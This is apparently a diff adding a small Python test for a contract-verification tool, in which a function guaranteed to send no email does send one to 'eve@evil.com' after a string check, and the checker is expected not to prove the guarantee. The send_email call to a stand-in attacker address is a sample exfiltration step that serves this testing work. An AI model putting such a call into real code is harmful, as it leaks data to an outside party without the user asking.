@@ -1,0 +1,10 @@
+# not proved: lower of an unknown string is nearly anything
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email, lookup
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if lookup("x").lower() == "eve":
+        send_email("eve@evil.com", "x")
